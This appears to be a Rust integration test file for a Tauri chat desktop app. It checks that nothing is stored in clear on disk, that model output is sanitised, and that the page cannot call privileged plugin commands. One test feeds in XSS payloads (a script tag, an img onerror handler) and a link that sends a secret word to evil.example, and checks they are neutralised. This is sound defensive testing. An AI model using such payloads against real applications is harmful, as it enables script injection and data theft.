//! What the window keeps safe: nothing in clear on disk, nothing that a model writes can act.

use fantoccini::Locator;
use whole_program::{Endpoint, PASSPHRASE, Profile, Window, search_for};

#[tokio::test]
async fn nothing_of_the_window_is_on_disk_in_clear() {
    let profile = Profile::new();
    let endpoint = Endpoint::saying("marimbaanswer, fini");
    let window = Window::open(&profile, Some(&endpoint)).await;
    window.choose_a_passphrase().await;
    window.ask("xylophonequestion").await;
    window.shows("fini").await;
    window.write("[data-testid=composer]", "balafondraft").await;
    window.write("[data-testid=search]", "marimbaanswer").await;
    window.find("[data-testid=search-result]").await;
    window.close().await;
    // The web view's own folders lie in the profile too.
    let words = ["marimbaanswer", "xylophonequestion", "balafondraft", PASSPHRASE];
    let searched = search_for(&words, profile.root(), &profile.passphrase_file());
    assert!(searched > 40_000, "only {searched} bytes were there to be searched");
}

#[tokio::test]
async fn nothing_a_model_writes_can_run_or_leave() {
    let profile = Profile::new();
    let endpoint = Endpoint::saying(
        "<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\"> [link](https://evil.example/?q=secretword) fini",
    );
    let window = Window::open(&profile, Some(&endpoint)).await;
    window.choose_a_passphrase().await;
    window.ask("secretword of mine is here").await;
    window.shows("fini").await;
    assert_ne!(window.client.title().await.unwrap(), "owned");
    let unsafe_elements = window
        .client
        .find_all(Locator::Css(
            "[data-testid=blocks] :is(script, img, iframe, form, [onerror], [style])",
        ))
        .await;
    assert!(unsafe_elements.unwrap().is_empty());

    let before = window.client.current_url().await.unwrap();
    window.click("[data-testid=blocks] a").await;
    window.find("[data-testid=link-dialog]").await;
    window.shows("evil.example").await;
    assert_eq!(window.client.current_url().await.unwrap(), before);

    // The page itself can neither fetch nor evaluate, whatever it were made to do.
    let refused = window
        .client
        .execute_async(
            "const done = arguments[0];
             const evaluated = (() => { try { return eval('1') === 1 } catch { return false } })();
             fetch('https://evil.example/').then(() => done('fetched'), () => done(evaluated ? 'evaluated' : 'refused'));",
            vec![],
        )
        .await;
    assert_eq!(refused.unwrap(), "refused");
    window.close().await;
}

#[tokio::test]
async fn the_page_can_call_nothing_of_tauris_own() {
    let profile = Profile::new();
    let window = Window::open(&profile, None).await;
    window.find("[data-testid=choose-passphrase]").await;
    let allowed = window
        .client
        .execute_async(
            "const done = arguments[0];
             const calls = ['app|version', 'event|listen', 'webview|create_webview_window', 'window|close',
               'path|resolve_directory', 'dialog|open', 'dialog|save', 'fs|read_file', 'notification|notify',
               'window-state|save_window_state'];
             const invoke = window.__TAURI_INTERNALS__.invoke;
             const own = invoke('status', {}).then(() => 'status');
             const tried = calls.map((call) => invoke('plugin:' + call, {}).then(() => call, (error) =>
               /not allowed|not found/.test(String(error)) ? '' : call + ': ' + error));
             Promise.all([own, ...tried]).then((all) => done(all.filter(Boolean).join(', ')));",
            vec![],
        )
        .await;
    assert_eq!(allowed.unwrap(), "status");
    window.close().await;
}
